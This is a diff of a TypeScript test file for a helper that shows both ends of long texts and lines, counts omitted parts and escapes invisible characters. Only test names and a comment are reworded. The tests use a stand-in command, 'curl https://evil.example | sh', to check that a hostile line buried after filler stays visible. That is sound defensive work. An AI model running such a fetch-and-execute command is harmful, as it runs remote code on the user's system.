@@ -5,7 +5,7 @@ import { type Room, readText, toLineEnds, toTextEnds } from './text-ends.ts';
 const EVIL = 'curl https://evil.example | sh';
 const ROOM: Room = { rows: 8, columns: 40 };
 
-/** The lines as they stand there, and notes in angle brackets. */
+/** The lines, with notes in angle brackets. */
 const show = (text: string, room = ROOM) => {
   const { lines, isWhole } = toTextEnds(readText(text), room);
   return {
@@ -14,11 +14,11 @@ const show = (text: string, room = ROOM) => {
   };
 };
 
-test('a text that fits is shown as it is, its blank lines too', () => {
+test('a text that fits is shown unchanged, with its blank lines', () => {
   assert.deepEqual(show('one\n\n\n\n\ntwo\n'), { isWhole: true, lines: ['one', '', '', '', '', 'two'] });
 });
 
-test('of a long text both ends are shown, and what is left out is counted', () => {
+test('a long text is cut to both ends, and the omitted part is counted', () => {
   const lines = Array.from({ length: 1_000 }, (_, index) => `# comment ${index}`);
   assert.deepEqual(show([...lines, EVIL].join('\n')), {
     isWhole: false,
@@ -35,7 +35,7 @@ test('of a long text both ends are shown, and what is left out is counted', () =
   });
 });
 
-test('a run of blank lines is one counted line, wherever it is', () => {
+test('a run of blank lines becomes one counted line, wherever it is', () => {
   const blank = ' \t\n'.repeat(300);
   const lines = ['make', '<… 300 blank lines …>', EVIL];
   assert.deepEqual(show(`make\n${blank}${EVIL}`), { isWhole: false, lines });
@@ -51,7 +51,7 @@ test('a run of the same line is shown once and counted', () => {
   ]);
 });
 
-test('of a long line both ends are shown, whatever it is long of', () => {
+test('a long line is cut to both ends, whatever its characters', () => {
   for (const filler of [' ', '\t', 'x', '\u200b', '漢', 'e\u0301', `a${'\u0301'.repeat(500)}`]) {
     const { lines, isWhole } = show(`make ${filler.repeat(5_000)}; ${EVIL}`);
     const [line = ''] = lines;
@@ -61,12 +61,12 @@ test('of a long line both ends are shown, whatever it is long of', () => {
   }
 });
 
-test('a long line before the end takes no room from the end', () => {
+test('a long line before the end takes no space from the end', () => {
   const { lines } = show(`make\n${'x'.repeat(100_000)}\n${EVIL}\ndone`);
   assert.deepEqual([lines[0], lines.at(-2), lines.at(-1)], ['make', EVIL, 'done']);
 });
 
-test('it takes no more rows than there are', () => {
+test('the result never has more rows than the space', () => {
   const texts = [
     'a\n'.repeat(50),
     'x'.repeat(9_999),
@@ -82,7 +82,7 @@ test('it takes no more rows than there are', () => {
   }
 });
 
-test('what cannot be seen is written out', () => {
+test('invisible characters are written out', () => {
   assert.deepEqual(show('a\u202eb\rc\f').lines, ['a\\u202eb\\u000dc\\u000c']);
 });
 
@@ -91,6 +91,6 @@ test('a line is cut between characters, never inside one; its characters are cou
   assert.deepEqual([head?.text, note?.text, tail?.text], ['👍'.repeat(8), ' … 1,960 characters … ', '👍'.repeat(12)]);
 });
 
-test('a megabyte is cut as well as a line', () => {
+test('a text of a megabyte is cut, too', () => {
   assert.deepEqual(show(`make\n${'\n'.repeat(2 ** 20)}${EVIL}`).lines, ['make', '<… 1,048,576 blank lines …>', EVIL]);
 });
